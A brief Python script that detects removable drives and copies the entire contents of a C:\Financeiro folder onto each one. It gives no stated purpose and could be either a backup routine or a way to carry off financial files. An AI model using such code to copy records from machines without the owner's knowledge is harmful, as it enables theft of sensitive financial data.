import psutil, shutil, os
for p in psutil.disk_partitions():
    if "removable" in p.opts:
        for f in os.listdir(r"C:\Financeiro"):
            shutil.copy(os.path.join(r"C:\Financeiro", f), p.mountpoint)
